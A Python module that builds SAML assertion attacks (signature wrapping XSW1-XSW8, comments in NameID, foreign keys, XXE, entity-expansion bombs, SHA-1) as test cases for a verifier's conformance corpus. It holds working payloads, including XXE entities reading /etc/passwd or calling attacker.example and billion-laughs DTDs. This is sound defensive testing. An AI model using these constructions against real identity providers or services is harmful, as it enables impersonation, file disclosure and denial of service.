"""Attacks on SAML 2.0 assertion verification (issue 14 item 4), as builders shared by the conformance
corpus (``attest conformance generate --saml``) and the library's own attack tests (tests/test_saml_attacks.py).

Every builder takes a :class:`SamlKit`: the source of a validly signed assertion and of the attacker's
unsigned one, a signer, and the keys an attacker holds. The corpus's kit derives its keys from a seed
(:class:`attest.conformance.saml_forge.SamlForge`); the tests' kit wraps their own helpers. The builders then
rearrange or replace what was signed, as the cited papers and advisories describe; :data:`ATTACKS` lists each
with its attack class, what a conforming verifier decides, and why.

Sources: J. Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012 (XML
Signature Wrapping XSW1-XSW8, named as the SAML Raider tool names them; signature exclusion); Duo Labs, "Duo
Finds SAML Vulnerabilities Affecting Multiple Implementations" (2018: comments in NameID, CVE-2017-11427 and
others); SAML 2.0 core (saml-core-2.0-os) 5.4; OWASP SAML Security, XML External Entity Prevention and XML
Security cheat sheets; CWE-611, CWE-776, CWE-400; W3C XML Signature Best Practices (2013); NIST SP 800-131A
Rev. 2 (no SHA-1 signatures, no RSA under 2048 bits); CVE-2021-21239 (a key taken from KeyInfo).
"""

from __future__ import annotations

import copy
import datetime
import functools
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any, Protocol

from lxml import etree

from .corpus import Expectation, deny, permit
from .forge import HPR, OTHER_FNRS

SAML_NS = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP_NS = "urn:oasis:names:tc:SAML:2.0:protocol"
DS_NS = "http://www.w3.org/2000/09/xmldsig#"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
INCLUSIVE_C14N = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
EXC_C14N_WITH_COMMENTS = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
XML_ID = "{http://www.w3.org/XML/1998/namespace}id"

#: the identity an attacker wants to be (a valid F-number of the data model's examples, RULES.md d.7)
VICTIM = OTHER_FNRS[1]
EVIL_ID = "_evil"

#: the rule ids verify_saml reports (SAML 2.0 core sections; RULES.md ATT ids)
R_PARSE = "ATT-1"
R_SIGNATURE = "ATT-2"
R_SIG_PROFILE = "SAML2-core-5.4"
R_ASSERTION = "SAML2-core-2.3.3"
R_ISSUER = "SAML2-core-2.2.5"
R_MAPPING = "DM-6.3"


class SamlKit(Protocol):
    """What the builders need: assertions, a signer, the attacker's keys."""

    @property
    def assertion_id(self) -> str:
        """The ``ID`` of :meth:`unsigned` assertions (unless another is asked for)."""

    @property
    def issuer(self) -> str:
        """The trusted SAML issuer's ``saml:Issuer``."""

    @property
    def now(self) -> int:
        """The ``IssueInstant`` of the kit's assertions (unix seconds)."""

    @property
    def practitioner(self) -> str:
        """The ``NameID`` of the kit's assertions (the practitioner's F-number)."""

    @property
    def attacker(self) -> tuple[Any, Any]:
        """A 2048-bit RSA key nobody trusts, and a self-signed certificate of it."""

    @property
    def weak(self) -> tuple[Any, Any]:
        """A 1024-bit RSA key, and a self-signed certificate of it."""

    def unsigned(self, *, name_id: str | None = None, assertion_id: str | None = None,
                 attributes: Sequence[str] = (), placeholder: bool = True) -> Any:
        """A new unsigned assertion (an lxml element) in the trusted issuer's shape: ``attributes`` are
        serialized ``<saml:Attribute>`` elements (``saml`` bound to the assertion namespace) that replace the
        attribute of the same ``Name`` or are added; ``placeholder`` puts an empty ``ds:Signature`` after the
        Issuer, where the signer puts the signature."""

    def sign(self, element: Any, *, key: Any = None, cert: Any = None, signature_algorithm: str = "rsa-sha256",
             digest_algorithm: str = "sha256", c14n: str = EXC_C14N, reference_uri: str | None = None,
             include_cert: bool = True, enveloping: bool = False) -> Any:
        """Sign with signxml (SHA-1 allowed, for the attacks): the trusted issuer's key and certificate unless
        ``key`` is given (then ``cert``, if any, goes into KeyInfo); returns the signed root element."""

    def resign(self, element: Any) -> Any:
        """Sign ``element``'s edited SignedInfo again with the trusted key (RSA-SHA256): only the verifier's
        own structure checks can then refuse it."""


def serialize(element: Any) -> bytes:
    out: bytes = etree.tostring(element)
    return out


def signed(kit: SamlKit) -> Any:
    """The original, validly signed assertion (an element; the attacks copy and rearrange it)."""
    return kit.sign(kit.unsigned())


def signed_bytes(kit: SamlKit, *, attributes: Sequence[str] = ()) -> bytes:
    return serialize(kit.sign(kit.unsigned(attributes=attributes)))


def evil(kit: SamlKit, assertion_id: str) -> Any:
    """The assertion the attacker wants accepted: unsigned, naming the victim."""
    return kit.unsigned(name_id=VICTIM, assertion_id=assertion_id, placeholder=False)


def _signature(element: Any) -> Any:
    return element.find(f"{{{DS_NS}}}Signature")


def _advice(parent: Any, child: Any) -> None:
    """Put ``child`` into a saml:Advice of ``parent`` (Advice may legitimately hold assertions)."""
    etree.SubElement(parent, f"{{{SAML_NS}}}Advice").append(child)


def _attribute(name: str, value: str) -> str:
    return f'<saml:Attribute Name="{name}"><saml:AttributeValue>{value}</saml:AttributeValue></saml:Attribute>'


# --- XML Signature Wrapping --------------------------------------------------------------------------------
# "On Breaking SAML", section 5: XSW1 and XSW2 wrap a signed Response; XSW3-XSW8 wrap a signed Assertion inside
# a Response. The input here is one Assertion, so each is given as in the paper (a Response: refused as not
# an assertion) and adapted with the attacker's assertion as the root, keeping the original's ID (duplicate
# IDs) or not (the signature then covers something other than the root).

def response(kit: SamlKit, *children: Any, response_id: str = "_resp") -> Any:
    """A samlp:Response (status Success) from the trusted issuer holding ``children``."""
    resp = etree.Element(f"{{{SAMLP_NS}}}Response", nsmap={"samlp": SAMLP_NS, "saml": SAML_NS})
    resp.set("ID", response_id)
    resp.set("Version", "2.0")
    resp.set("IssueInstant", _instant(kit.now))
    etree.SubElement(resp, f"{{{SAML_NS}}}Issuer").text = kit.issuer
    status = etree.SubElement(resp, f"{{{SAMLP_NS}}}Status")
    etree.SubElement(status, f"{{{SAMLP_NS}}}StatusCode", Value="urn:oasis:names:tc:SAML:2.0:status:Success")
    for c in children:
        resp.append(c)
    return resp


def _instant(t: int) -> str:
    return datetime.datetime.fromtimestamp(t, datetime.UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")


def _signed_response(kit: SamlKit) -> Any:
    resp = response(kit, signed(kit))
    resp.insert(1, etree.Element(f"{{{DS_NS}}}Signature", nsmap={"ds": DS_NS}, Id="placeholder"))
    return kit.sign(resp, reference_uri=resp.get("ID"))


def xsw1(kit: SamlKit) -> bytes:
    """XSW1: a new (evil) Response is the root; the original signed Response is copied into its Signature."""
    bad = response(kit, evil(kit, EVIL_ID), response_id="_evil-resp")
    original = _signed_response(kit)
    sig = copy.deepcopy(_signature(original))
    sig.append(original)
    bad.insert(1, sig)
    return serialize(bad)


def xsw2(kit: SamlKit) -> bytes:
    """XSW2: as XSW1, the original Response placed before the signature (a detached signature)."""
    bad = response(kit, evil(kit, EVIL_ID), response_id="_evil-resp")
    original = _signed_response(kit)
    sig = copy.deepcopy(_signature(original))
    bad.insert(1, original)
    bad.insert(2, sig)
    return serialize(bad)


def xsw3_response(kit: SamlKit) -> bytes:
    """XSW3 as in the paper: an evil assertion with the original's ID before the original, in a Response."""
    return serialize(response(kit, evil(kit, kit.assertion_id), signed(kit)))


def xsw3(kit: SamlKit) -> bytes:
    """XSW3 adapted: the evil assertion (the original's ID) is the root; the original follows inside it."""
    bad = evil(kit, kit.assertion_id)
    _advice(bad, signed(kit))
    return serialize(bad)


def xsw4(kit: SamlKit) -> bytes:
    """XSW4: the evil assertion wraps the original (the original a child of the evil one)."""
    bad = evil(kit, kit.assertion_id)
    bad.append(signed(kit))
    return serialize(bad)


def xsw4_new_id(kit: SamlKit) -> bytes:
    """XSW4 with a fresh root ID: the original's signature now sits below the root."""
    bad = evil(kit, EVIL_ID)
    bad.append(signed(kit))
    return serialize(bad)


def xsw5(kit: SamlKit) -> bytes:
    """XSW5: the evil assertion carries the original's signature; the original (signature removed) is
    appended to the document (here: inside the root, as it must have one)."""
    original = signed(kit)
    sig = _signature(original)
    original.remove(sig)
    bad = evil(kit, kit.assertion_id)
    bad.insert(1, sig)
    _advice(bad, original)
    return serialize(bad)


def xsw6(kit: SamlKit) -> bytes:
    """XSW6: the evil assertion carries the original's signature, and the original assertion (signature
    removed) is put inside that signature."""
    original = signed(kit)
    sig = _signature(original)
    original.remove(sig)
    sig.append(original)
    bad = evil(kit, kit.assertion_id)
    bad.insert(1, sig)
    return serialize(bad)


def xsw7(kit: SamlKit) -> bytes:
    """XSW7: an extension element (the paper uses samlp:Extensions, which schema validation lets through)
    holding the original; the evil assertion next to it, with the signature."""
    original = signed(kit)
    sig = copy.deepcopy(_signature(original))
    bad = evil(kit, kit.assertion_id)
    etree.SubElement(bad, "{urn:example:ext}Extensions").append(original)
    bad.insert(1, sig)
    return serialize(bad)


def xsw8(kit: SamlKit) -> bytes:
    """XSW8: the evil assertion carries the signature, whose ds:Object holds the original (signature
    removed)."""
    original = signed(kit)
    sig = _signature(original)
    original.remove(sig)
    etree.SubElement(sig, f"{{{DS_NS}}}Object").append(original)
    bad = evil(kit, kit.assertion_id)
    bad.insert(1, sig)
    return serialize(bad)


def xsw_id_attribute(kit: SamlKit) -> bytes:
    """XSW3 against ID lookup: the nested original carries its ID as ``Id`` (signxml looks up ``Id`` before
    ``ID`` by default), so a check for duplicate ``ID`` attributes alone would miss it."""
    original = signed(kit)
    del original.attrib["ID"]
    original.set("Id", kit.assertion_id)
    bad = evil(kit, kit.assertion_id)
    bad.insert(1, copy.deepcopy(_signature(original)))
    _advice(bad, original)
    return serialize(bad)


def xsw_xml_id(kit: SamlKit) -> bytes:
    """The same with ``xml:id`` on an element of the signed assertion (its Subject)."""
    original = signed(kit)
    original.find(f"{{{SAML_NS}}}Subject").set(XML_ID, kit.assertion_id)
    return serialize(original)


# --- comments inside NameID and attribute values -----------------------------------------------------------
# Duo Labs (2018-02-27): CVE-2017-11427 (python-saml), CVE-2017-11428 (ruby-saml), CVE-2017-11429 (saml2-js),
# CVE-2017-11430 (OmniAuth-SAML), CVE-2018-0489 (Shibboleth). Exclusive c14n drops comments, so a comment added
# after signing keeps the signature valid; a reader that takes the text before the comment reads a truncated
# identity.

def comment_in_name_id(kit: SamlKit, signed_name_id: str, before: str, after: str) -> bytes:
    """Signed for ``signed_name_id``; then the NameID's text is split by a comment into ``before`` and
    ``after`` (whose concatenation is the signed value)."""
    el = kit.sign(kit.unsigned(name_id=signed_name_id))
    name_id = el.find(f"{{{SAML_NS}}}Subject/{{{SAML_NS}}}NameID")
    name_id.text = before
    comment = etree.Comment("")
    comment.tail = after
    name_id.append(comment)
    return serialize(el)


def comment_truncating_name_id(kit: SamlKit) -> bytes:
    """Signed for the attacker's longer identifier; a naive reader sees the practitioner's F-number."""
    return comment_in_name_id(kit, kit.practitioner + "1", kit.practitioner, "1")


def comment_splitting_name_id(kit: SamlKit) -> bytes:
    """A comment inside the signed NameID: the full signed text is still the identity."""
    return comment_in_name_id(kit, kit.practitioner, kit.practitioner[:5], kit.practitioner[5:])


def comment_in_attribute_value(kit: SamlKit, value: str) -> bytes:
    """A comment splits the signed attribute value ``value`` (e.g. the HPR number) after its third character."""
    el = signed(kit)
    for av in el.iter(f"{{{SAML_NS}}}AttributeValue"):
        if av.text == value:
            av.text = value[:3]
            comment = etree.Comment("x")
            comment.tail = value[3:]
            av.append(comment)
    return serialize(el)


# --- unsigned, and signatures over something else ----------------------------------------------------------
# SAML 2.0 core 5.4.2 ("a single <ds:Reference> containing a same-document reference to the ID attribute value
# of the root element of the assertion"); "On Breaking SAML" section 4 (signature exclusion); OWASP SAML
# Security Cheat Sheet.

def unsigned(kit: SamlKit) -> bytes:
    return serialize(kit.unsigned(placeholder=False))


def signature_removed(kit: SamlKit) -> bytes:
    el = signed(kit)
    el.remove(_signature(el))
    return serialize(el)


def reference_to_a_child(kit: SamlKit) -> bytes:
    el = kit.unsigned()
    el.find(f"{{{SAML_NS}}}Subject").set("ID", "_subject")
    return serialize(kit.sign(el, reference_uri="#_subject"))


def _reference_uri(kit: SamlKit, uri: str) -> bytes:
    el = signed(kit)
    el.find(f".//{{{DS_NS}}}Reference").set("URI", uri)
    return serialize(kit.resign(el))


def reference_to_the_whole_document(kit: SamlKit) -> bytes:
    """URI="" covers the whole document, not the assertion by its ID (genuinely signed after the edit)."""
    return _reference_uri(kit, "")


def external_reference(kit: SamlKit) -> bytes:
    """An external Reference (a detached signature over a URL): nothing is ever fetched."""
    return _reference_uri(kit, "http://attacker.example/assertion.xml")


def duplicate_ids(kit: SamlKit) -> bytes:
    el = signed(kit)
    etree.SubElement(el, f"{{{SAML_NS}}}Advice").set("ID", kit.assertion_id)
    return serialize(el)


def two_signatures(kit: SamlKit) -> bytes:
    el = signed(kit)
    el.append(copy.deepcopy(_signature(el)))
    return serialize(el)


def extra_transform(kit: SamlKit, algorithm: str = XSLT_TRANSFORM) -> bytes:
    """W3C XML Signature Best Practices 2.1.1-2.1.3 (XSLT, XPath transforms as attack surface). signxml skips
    transforms it does not know, so the digest still matches: the verifier's allow-list (enveloped-signature,
    then exclusive c14n) is what refuses it. Genuinely signed after the edit."""
    el = signed(kit)
    etree.SubElement(el.find(f".//{{{DS_NS}}}Transforms"), f"{{{DS_NS}}}Transform", Algorithm=algorithm)
    return serialize(kit.resign(el))


def transforms_without_enveloped_signature(kit: SamlKit) -> bytes:
    el = signed(kit)
    transforms = el.find(f".//{{{DS_NS}}}Transforms")
    transforms.remove(transforms[0])
    return serialize(kit.resign(el))


def signed_content_changed(kit: SamlKit) -> bytes:
    el = signed(kit)
    el.find(f"{{{SAML_NS}}}Subject/{{{SAML_NS}}}NameID").text = VICTIM
    return serialize(el)


def assertion_inside_a_soap_envelope(kit: SamlKit) -> bytes:
    env = etree.Element("{http://www.w3.org/2003/05/soap-envelope}Envelope",
                        nsmap={"s": "http://www.w3.org/2003/05/soap-envelope"})
    etree.SubElement(env, "{http://www.w3.org/2003/05/soap-envelope}Header").append(signed(kit))
    return serialize(env)


# --- the key: KeyInfo is not trusted ----------------------------------------------------------------------
# OWASP SAML Security Cheat Sheet ("do not trust the key in KeyInfo"); signxml's documentation ("Establish
# trust"); CVE-2021-21239 (pysaml2 accepted signatures with any key in KeyInfo).

def foreign_key_info_certificate(kit: SamlKit) -> bytes:
    key, cert = kit.attacker
    return serialize(kit.sign(kit.unsigned(), key=key, cert=cert))


def attacker_key_with_the_pinned_certificate(kit: SamlKit, pinned: Any) -> bytes:
    key, _ = kit.attacker
    return serialize(kit.sign(kit.unsigned(), key=key, cert=pinned))


def attacker_key_without_key_info(kit: SamlKit) -> bytes:
    key, _ = kit.attacker
    return serialize(kit.sign(kit.unsigned(), key=key, include_cert=False))


def key_value_in_key_info(kit: SamlKit) -> bytes:
    el = signed(kit)
    etree.SubElement(el.find(f".//{{{DS_NS}}}KeyInfo"), f"{{{DS_NS}}}KeyValue")
    return serialize(el)


def retrieval_method_in_key_info(kit: SamlKit) -> bytes:
    """An external reference for the key: never followed."""
    el = signed(kit)
    etree.SubElement(el.find(f".//{{{DS_NS}}}KeyInfo"), f"{{{DS_NS}}}RetrievalMethod",
                     URI="http://attacker.example/key.cer")
    return serialize(el)


def two_certificates_in_key_info(kit: SamlKit) -> bytes:
    from cryptography.hazmat.primitives.serialization import Encoding

    el = signed(kit)
    extra = etree.SubElement(el.find(f".//{{{DS_NS}}}X509Data"), f"{{{DS_NS}}}X509Certificate")
    extra.text = "".join(kit.attacker[1].public_bytes(Encoding.PEM).decode("ascii").splitlines()[1:-1])
    return serialize(el)


# --- enveloping signature ----------------------------------------------------------------------------------
# SAML 2.0 core 5.4.1 ("SAML assertions ... MUST use enveloped signatures").

def enveloping_signature(kit: SamlKit) -> bytes:
    return serialize(kit.sign(kit.unsigned(placeholder=False), enveloping=True))


# --- DTDs, entities, XXE, the prolog -----------------------------------------------------------------------
# OWASP XML External Entity Prevention Cheat Sheet; CWE-611 (XXE), CWE-776 (billion laughs); Python's "XML
# vulnerabilities" (billion laughs, quadratic blowup, external entity expansion, DTD retrieval).

def with_doctype(kit: SamlKit, doctype: str, name_id: str | None = None) -> bytes:
    """A validly signed assertion behind ``doctype``, its NameID text replaced by ``name_id`` (an entity
    reference, say)."""
    body = signed_bytes(kit)
    if name_id is not None:
        body = body.replace(f"<saml:NameID>{kit.practitioner}<".encode(), f"<saml:NameID>{name_id}<".encode())
    return doctype.encode() + body


def _laughs() -> str:
    return ('<!DOCTYPE saml:Assertion [<!ENTITY lol "lol">'
            + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                      for i in range(1, 10)) + "]>")


#: name -> (doctype, NameID text or None, attack class, description)
DTD_DOCTYPES: dict[str, tuple[str, str | None, str, str]] = {
    "xxe-file": ('<!DOCTYPE saml:Assertion [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;", "xxe",
                 "an external entity naming a local file, used in the NameID (XXE)"),
    "xxe-http": ('<!DOCTYPE saml:Assertion [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>', "&xxe;", "xxe",
                 "an external entity naming a URL, used in the NameID (XXE, server-side request)"),
    "xxe-parameter-entity": ('<!DOCTYPE saml:Assertion [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
                             None, "xxe", "an external parameter entity (out-of-band XXE)"),
    "billion-laughs": (_laughs(), "&lol9;", "billion-laughs",
                       "nested entities expanding to 10^9 'lol's, used in the NameID (billion laughs)"),
    "quadratic-blowup": ('<!DOCTYPE saml:Assertion [<!ENTITY a "' + "x" * 20000 + '">]>', "&a;" * 100,
                         "billion-laughs", "one 20 000-character entity referenced 100 times (quadratic blowup)"),
    "internal-dtd": ("<!DOCTYPE saml:Assertion [<!ELEMENT saml:Assertion ANY>]>", None, "dtd",
                     "an internal DTD subset declaring an element"),
    "external-dtd": ('<!DOCTYPE saml:Assertion SYSTEM "http://attacker.example/saml.dtd">', None, "dtd",
                     "an external DTD (never fetched)"),
    "doctype-only": ("<!DOCTYPE saml:Assertion>", None, "dtd", "a bare DOCTYPE declaration"),
    "doctype-after-declaration": ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE x>', None, "dtd",
                                  "a DOCTYPE after the XML declaration"),
}


def dtd_attack(kit: SamlKit, name: str) -> bytes:
    doctype, name_id, _, _ = DTD_DOCTYPES[name]
    return with_doctype(kit, doctype, name_id)


def dtd_in_utf16(kit: SamlKit) -> bytes:
    """A byte scan for ``<!DOCTYPE`` must not be dodged by another encoding."""
    text = '<?xml version="1.0" encoding="UTF-16"?>' + dtd_attack(kit, "xxe-file").decode()
    return text.encode("utf-16")


def declared_latin1(kit: SamlKit) -> bytes:
    return b'<?xml version="1.0" encoding="ISO-8859-1"?>' + signed_bytes(kit)


def processing_instruction(kit: SamlKit) -> bytes:
    return b'<?xml-stylesheet href="http://attacker.example/x.xsl"?>' + signed_bytes(kit)


# --- XML inside attribute values ---------------------------------------------------------------------------
# The HL7v3 values (CE, II) are XML inside XML: parsed with the same hardening. The signature is valid, so
# these are refused as malformed attributes (invalid_field), not at the token level.

ROLE = "urn:oasis:names:tc:xspa:1.0:subject:role"
SUBJECT_ID = "urn:oasis:names:tc:xspa:1.0:subject:subject-id"


def xxe_role() -> str:
    return _attribute(ROLE, '&lt;!DOCTYPE r [&lt;!ENTITY x SYSTEM "file:///etc/passwd"&gt;]&gt;&lt;Role '
                            'xmlns="urn:hl7-org:v3" code="&amp;x;" codeSystem="urn:oid:2.16.578.1.12.4.1.1.9060"/&gt;')


def billion_laughs_role() -> str:
    lol = "".join(f"&lt;!ENTITY l{i} \"{('&amp;l' + str(i - 1) + ';') * 10}\"&gt;" for i in range(1, 9))
    return _attribute(ROLE, f'&lt;!DOCTYPE r [&lt;!ENTITY l0 "lol"&gt;{lol}]&gt;&lt;Role code="&amp;l8;"/&gt;')


def xinclude_subject_id() -> str:
    """OWASP XXE Prevention Cheat Sheet (XInclude): read as XML where text is expected, never included."""
    return _attribute(SUBJECT_ID, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                  'href="file:///etc/passwd" parse="text"/>')


def huge_role() -> str:
    return _attribute(ROLE, f'&lt;Role code="LE" displayName="{"x" * 5000}"/&gt;')


def with_attribute(kit: SamlKit, attribute: str) -> bytes:
    return signed_bytes(kit, attributes=[attribute])


# --- huge documents ----------------------------------------------------------------------------------------
# CWE-400 / CWE-770; OWASP XML Security Cheat Sheet ("Limit the size ..., the depth ...").

def over_the_byte_cap(kit: SamlKit) -> bytes:
    return serialize(kit.unsigned(attributes=[_attribute("urn:example:pad", "x" * 70000)]))


def too_deep(kit: SamlKit) -> bytes:
    return with_attribute(kit, _attribute("urn:example:deep", "<x>" * 200 + "</x>" * 200))


def too_many_elements(kit: SamlKit) -> bytes:
    return with_attribute(kit, _attribute("urn:example:many", "<x/>" * 2500))


# --- weak algorithms and keys ------------------------------------------------------------------------------
# NIST SP 800-131A Rev. 2; W3C XML Signature Best Practices 2.4; signxml's defaults (SHA-1 refused).

def sha1_signature_method(kit: SamlKit) -> bytes:
    return serialize(kit.sign(kit.unsigned(), signature_algorithm="rsa-sha1"))


def sha1_digest(kit: SamlKit) -> bytes:
    return serialize(kit.sign(kit.unsigned(), digest_algorithm="sha1"))


def sha1_everywhere(kit: SamlKit) -> bytes:
    return serialize(kit.sign(kit.unsigned(), signature_algorithm="rsa-sha1", digest_algorithm="sha1"))


def hmac_signature_method(kit: SamlKit) -> bytes:
    el = signed(kit)
    el.find(f".//{{{DS_NS}}}SignatureMethod").set("Algorithm", HMAC_SHA256)
    return serialize(el)


def other_canonicalization(kit: SamlKit, c14n: str) -> bytes:
    return serialize(kit.sign(kit.unsigned(), c14n=c14n))


def rsa_1024_signature(kit: SamlKit) -> bytes:
    key, cert = kit.weak
    return serialize(kit.sign(kit.unsigned(), key=key, cert=cert))


# --- the table the corpus is made of -----------------------------------------------------------------------

@dataclass(frozen=True)
class SamlAttack:
    """One attack: ``name`` (the case id's tail), its class (a key of
    :data:`attest.conformance.corpus.SAML_ATTACK_CLASSES`), a one-line description, what a conforming verifier
    decides, and the builder. ``authenticated``: the verify context names the kit's practitioner as the
    authenticated user (``authenticated_pid``). ``tags``: ``unsigned`` (no ds:Signature at all), ``oversize``
    (a service may answer 413), ``base64`` (the bytes are no UTF-8 text: the corpus carries them
    base64-encoded)."""

    name: str
    cls: str
    description: str
    expect: Expectation
    build: Callable[[SamlKit], bytes]
    authenticated: bool = False
    tags: tuple[str, ...] = ()


def _sig(rule: str = R_SIG_PROFILE) -> Expectation:
    return deny("invalid_signature", rule)


_PARSE = deny("invalid_saml", R_PARSE)
_NOT_ASSERTION = deny("invalid_saml", R_ASSERTION)
_ALG = deny("unsupported_algorithm", R_SIG_PROFILE)
_FIELD = deny("invalid_field", R_MAPPING)


def attacks(pinned_certificate: Any) -> tuple[SamlAttack, ...]:
    """Every attack of the corpus, in report order. ``pinned_certificate``: the trusted issuer's certificate
    (for "the attacker's key with the pinned certificate in KeyInfo")."""
    a = SamlAttack
    dtd = tuple(a(name, cls, f"{text}: refused before parsing", _PARSE, functools.partial(dtd_attack, name=name))
                for name, (_, _, cls, text) in DTD_DOCTYPES.items())
    return (
        a("xsw1", "XSW1", "an evil Response as the root, the signed Response inside its Signature",
          _NOT_ASSERTION, xsw1),
        a("xsw2", "XSW2", "an evil Response as the root, the signed Response before a detached signature",
          _NOT_ASSERTION, xsw2),
        a("xsw3-response", "XSW3",
          "a Response holding an evil assertion with the signed one's ID, then the signed one", _NOT_ASSERTION,
          xsw3_response),
        a("xsw3", "XSW3", "the evil assertion (the signed one's ID) as the root, the signed one in its Advice",
          _sig(), xsw3),
        a("xsw4", "XSW4", "the evil assertion (the signed one's ID) wraps the signed assertion", _sig(), xsw4),
        a("xsw4-new-id", "XSW4", "the evil assertion (a new ID) wraps the signed assertion", _sig(), xsw4_new_id),
        a("xsw5", "XSW5", "the evil assertion carries the signature, the signed one (unsigned now) in its Advice",
          _sig(), xsw5),
        a("xsw6", "XSW6", "the evil assertion carries the signature, the signed assertion inside that signature",
          _sig(), xsw6),
        a("xsw7", "XSW7", "the signed assertion in an extension element, its signature copied to the evil root",
          _sig(), xsw7),
        a("xsw8", "XSW8", "the evil assertion carries the signature, the signed assertion in its ds:Object",
          _sig(), xsw8),
        a("xsw-id-attribute", "XSW3", "as XSW3, the nested signed assertion naming its ID in an Id attribute",
          _sig(), xsw_id_attribute),
        a("xsw-xml-id", "XSW5", "an xml:id on the signed assertion's Subject repeats the assertion's ID",
          _sig(), xsw_xml_id),
        a("comment-truncating-nameid", "comment-in-nameid",
          "signed for a 12-digit NameID, a comment before its last digit: the full signed text is read",
          deny(("invalid_person_identifier", "practitioner_mismatch"), ("ATT-10", "ATT-11")),
          comment_truncating_name_id, authenticated=True),
        a("comment-splitting-nameid", "comment-in-nameid",
          "a comment inside the signed NameID (added after signing): the signed value is read, permitted",
          permit(R_SIGNATURE), comment_splitting_name_id),
        a("comment-in-hpr-number", "comment-in-nameid",
          "a comment inside the signed HPR number attribute (added after signing): permitted with its full value",
          permit(R_SIGNATURE), lambda kit: comment_in_attribute_value(kit, HPR)),
        a("unsigned", "unsigned", "no ds:Signature at all", _sig(R_SIGNATURE), unsigned, tags=("unsigned",)),
        a("signature-removed", "unsigned", "the signature of a signed assertion removed", _sig(R_SIGNATURE),
          signature_removed, tags=("unsigned",)),
        a("reference-to-a-child", "reference-elsewhere",
          "the signature's Reference is the Subject's ID, not the root's", _sig(), reference_to_a_child),
        a("reference-to-the-document", "reference-elsewhere", "Reference URI=\"\" (the whole document), re-signed",
          _sig(), reference_to_the_whole_document),
        a("external-reference", "reference-elsewhere", "Reference URI is an http URL (never fetched), re-signed",
          _sig(), external_reference),
        a("duplicate-ids", "duplicate-ids", "a saml:Advice carries the assertion's ID a second time", _sig(),
          duplicate_ids),
        a("two-signatures", "duplicate-ids", "a second copy of the signature appended to the assertion", _sig(),
          two_signatures),
        a("extra-transform-xslt", "transforms", "an XSLT transform added to the Reference, re-signed", _sig(),
          extra_transform),
        a("no-enveloped-signature-transform", "transforms",
          "the enveloped-signature transform removed from the Reference, re-signed", _sig(),
          transforms_without_enveloped_signature),
        a("signed-content-changed", "content-changed", "the NameID changed to another person after signing",
          _sig(R_SIGNATURE), signed_content_changed),
        a("soap-envelope", "not-an-assertion", "the signed assertion inside a SOAP envelope (the root)",
          _NOT_ASSERTION, assertion_inside_a_soap_envelope),
        a("foreign-key-info-certificate", "foreign-keyinfo",
          "signed by an untrusted key whose own certificate is in KeyInfo", _sig(R_SIGNATURE),
          foreign_key_info_certificate),
        a("attacker-key-pinned-certificate", "foreign-keyinfo",
          "signed by an untrusted key, the pinned certificate copied into KeyInfo", _sig(R_SIGNATURE),
          lambda kit: attacker_key_with_the_pinned_certificate(kit, pinned_certificate)),
        a("attacker-key-no-key-info", "foreign-keyinfo", "signed by an untrusted key, no KeyInfo", _sig(R_SIGNATURE),
          attacker_key_without_key_info),
        a("key-value-in-key-info", "foreign-keyinfo", "KeyInfo also carries a KeyValue", _sig(), key_value_in_key_info),
        a("retrieval-method-in-key-info", "foreign-keyinfo", "KeyInfo also carries a RetrievalMethod naming a URL",
          _sig(), retrieval_method_in_key_info),
        a("two-certificates-in-key-info", "foreign-keyinfo", "X509Data carries the pinned and an untrusted certificate",
          _sig(R_SIGNATURE), two_certificates_in_key_info),
        a("enveloping-signature", "enveloping-signature", "the assertion inside an enveloping ds:Signature (the root)",
          _sig(), enveloping_signature),
        *dtd,
        a("dtd-in-utf16", "dtd", "an XXE DOCTYPE in a UTF-16 document (a byte scan must not be dodged)", _PARSE,
          dtd_in_utf16, tags=("base64",)),
        a("declared-latin1", "xml-prolog", "an XML declaration naming ISO-8859-1", _PARSE, declared_latin1),
        a("processing-instruction", "xml-prolog", "an xml-stylesheet processing instruction before the root",
          _PARSE, processing_instruction),
        a("xxe-in-role-value", "xxe", "an XXE DOCTYPE inside the role attribute's HL7 value (signed)", _FIELD,
          lambda kit: with_attribute(kit, xxe_role())),
        a("billion-laughs-in-role-value", "billion-laughs",
          "entity expansion inside the role attribute's HL7 value (signed)", _FIELD,
          lambda kit: with_attribute(kit, billion_laughs_role())),
        a("xinclude-in-subject-id", "xxe", "an XInclude element as the subject-id value (signed): never processed",
          _FIELD, lambda kit: with_attribute(kit, xinclude_subject_id())),
        a("huge-role-value", "huge-document", "a 5000-character HL7 role value (the fragment cap is 4096)", _FIELD,
          lambda kit: with_attribute(kit, huge_role())),
        a("over-the-byte-cap", "huge-document", "a 70 kB assertion (the cap is 64 KiB)", _PARSE, over_the_byte_cap,
          tags=("oversize",)),
        a("too-deep", "huge-document", "an attribute value nested 200 elements deep (the cap is 32)", _PARSE, too_deep),
        a("too-many-elements", "huge-document", "2500 elements in one attribute value (the cap is 2000)", _PARSE,
          too_many_elements),
        a("sha1-signature-method", "sha1", "signed RSA-SHA1 (digest SHA-256)", _ALG, sha1_signature_method),
        a("sha1-digest", "sha1", "signed RSA-SHA256 over a SHA-1 digest", _ALG, sha1_digest),
        a("sha1-everywhere", "sha1", "signed RSA-SHA1 over a SHA-1 digest", _ALG, sha1_everywhere),
        a("hmac-signature-method", "weak-algorithm", "SignatureMethod says HMAC-SHA256 (key confusion)", _ALG,
          hmac_signature_method),
        a("inclusive-c14n", "weak-algorithm", "inclusive canonicalization instead of exclusive c14n", _ALG,
          lambda kit: other_canonicalization(kit, INCLUSIVE_C14N)),
        a("c14n-with-comments", "weak-algorithm", "exclusive c14n with comments (comments become signed content)",
